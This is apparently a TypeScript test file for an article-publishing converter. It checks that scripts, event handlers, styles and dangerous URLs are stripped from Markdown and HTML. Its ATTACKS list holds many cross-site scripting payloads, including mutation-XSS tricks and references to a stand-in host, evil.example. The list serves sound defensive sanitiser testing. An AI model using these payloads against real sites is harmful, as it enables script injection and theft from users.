import rehypeStringify from "rehype-stringify";
import { unified } from "unified";
import { describe, expect, it } from "vitest";
import { liveParts } from "#tests/publishing/live-parts.ts";
import { readFrontMatter } from "../front-matter.ts";
import { convertArticle } from "./convert-article.ts";

const writer = unified().use(rehypeStringify).freeze();

function publish(kind: "markdown" | "html", payload: string): string {
  const text = `---\ntitle: t\n---\nBefore ${payload}\n\nAfter\n`;
  return writer.stringify(convertArticle({ kind, ...readFrontMatter(text) }).body);
}

/** Written for this test: one for each kind of attack that we know. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(2)>a</p>',
  "<details open ontoggle=alert(1)><summary>a</summary></details>",
  "<a href=javascript:alert(1)>a</a>",
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  "<a href='vbscript:msgbox(1)'>a</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<blockquote cite=javascript:alert(1)>a</blockquote>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](<java\tscript:alert(1)>)",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![a](javascript:alert(1))",
  '![a"onerror="alert(1)](/x.svg)',
  '![a](/x.svg "b\\" onerror=\\"alert(1)")',
  "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<style>*{background:url(//evil.example)}</style>",
  "<p style='background:url(javascript:alert(1))'>a</p>",
  "<p style=position:fixed;inset:0>a</p>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)><embed src=x></object>",
  "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>b</button></form>",
  "<input type=checkbox onfocus=alert(1) autofocus>",
  "<input type=text value=a><select><option>b</select><textarea>c</textarea>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  "<p id=location name=body>a</p><img id=document name=cookie src=/x.svg>",
  "<a id=defaultView href=//evil.example target=_blank ping=//evil.example>a</a>",
  "<x-evil onclick=alert(1) style=x>a</x-evil>",
  "<video src=x onerror=alert(1)><source src=x></video><audio src=//evil.example autoplay></audio>",
  "<picture><source srcset=//evil.example/x onerror=alert(1)><img src=/x.svg srcset='//evil.example/y 1x'></picture>",
  "<table background=javascript:alert(1)><td background=x onclick=alert(1)>a</table>",
  "<div contenteditable tabindex=1 accesskey=x draggable=true is=x-evil slot=a>a</div>",
  "<ins datetime='\"><img src=x onerror=alert(1)>'>a</ins>",
  "`<img src=x onerror=alert(1)>` and\n\n    <script>alert(1)</script>",
  '```"><script>alert(1)</script>\na\n```',
  "| <img src=x onerror=alert(1)> |\n|--|\n| [a](javascript:alert(1)) |",
  "a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [b](javascript:alert(1))",
];

describe("D26: scripts, handlers, styles and dangerous addresses never reach the store", () => {
  it.each(ATTACKS)("%j, as Markdown and as HTML", (payload) => {
    for (const kind of ["markdown", "html"] as const) expect(liveParts(publish(kind, payload)), kind).toEqual([]);
  });

  it("the same file gives the same result", () => {
    for (const payload of ATTACKS) {
      const once = publish("html", payload);
      expect(publish("html", payload)).toBe(once);
    }
  });

  it("the test's own detector finds active content", () => {
    const unsafe = ATTACKS.slice(0, 16).filter((payload) => liveParts(payload).length === 0);
    expect(unsafe).toEqual([]);
  });
});
